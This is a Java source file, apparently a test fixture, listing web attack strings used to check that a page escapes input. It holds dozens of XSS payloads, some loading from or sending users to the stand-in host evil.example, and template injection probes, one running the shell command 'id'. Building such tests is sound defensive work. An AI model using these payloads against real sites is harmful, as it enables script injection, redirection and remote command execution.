package org.kindling.stories;

import java.util.List;

/** What people type who want a page to do something other than to show it. */
final class Attacks {

	/** What a template would make of {@code 7*7331}. */
	static final String COMPUTED = "51317";

	static final List<String> ALL = List.of("<script>alert(7331)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>",
			"</title><script>alert(7331)</script>", "</textarea><script>alert(7331)</script>",
			"</script><script>alert(7331)</script>", "<!--</script><script>alert(7331)</script>-->",
			"<img src=x onerror=alert(7331)>", "<img src=x onerror=\"alert(7331)\"//>",
			"\"><img src=x onerror=alert(7331)>", "'><img src=x onerror=alert(7331)>", "<svg onload=alert(7331)>",
			"<svg/onload=alert(7331)//", "<svg><script>alert(7331)</script></svg>", "<body onload=alert(7331)>",
			"<iframe src=javascript:alert(7331)>", "<iframe srcdoc=\"<script>alert(7331)</script>\">",
			"<a href=javascript:alert(7331)>x</a>", "<a href=\"java&#x09;script:alert(7331)\">x</a>",
			"javascript:alert(7331)", "data:text/html,<script>alert(7331)</script>",
			"<math href=javascript:alert(7331)>x</math>", "<details open ontoggle=alert(7331)>",
			"<video><source onerror=alert(7331)>", "<audio src=x onerror=alert(7331)>",
			"<input autofocus onfocus=alert(7331)>", "<select autofocus onfocus=alert(7331)>",
			"<form action=//evil.example><button>x</button></form>", "<button formaction=javascript:alert(7331)>x",
			"<object data=javascript:alert(7331)>", "<embed src=javascript:alert(7331)>", "<base href=//evil.example/>",
			"<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
			"<style>*{background:url(//evil.example)}</style>",
			"<div style=\"background:url(javascript:alert(7331))\">",
			"<div onmouseover=alert(7331) style=position:fixed;inset:0>", "\" onmouseover=\"alert(7331)",
			"' onmouseover='alert(7331)", "\" autofocus onfocus=alert(7331) x=\"", "` onmouseover=`alert(7331)",
			"<plaintext>", "<xmp><script>alert(7331)</script>",
			"<noscript><p title=\"</noscript><img src=x onerror=alert(7331)>\">",
			"&lt;script&gt;alert(7331)&lt;/script&gt;", "&#60;script&#62;alert(7331)",
			"%3Cscript%3Ealert(7331)%3C/script%3E", "\\u003cscript\\u003ealert(7331)",
			"+ADw-script+AD4-alert(7331)+ADw-/script+AD4-", "<<script>alert(7331)//<</script>",
			"]]><script>alert(7331)</script>", "${7*7331}", "#{7*7331}", "*{7*7331}", "@{7*7331}", "~{7*7331}",
			"__${7*7331}__::.x", "[[${7*7331}]]", "[(${7*7331})]", "{{7*7331}}", "<%= 7*7331 %>",
			"${T(java.lang.Runtime).getRuntime().exec('id')}", "__${T(java.lang.Math).multiplyExact(7,7331)}__",
			"<p th:text=\"${7*7331}\">x</p>", "'+(7*7331)+'", "{0,choice,0#7331}", "{0} {1} {title}");

	private Attacks() {
	}

}
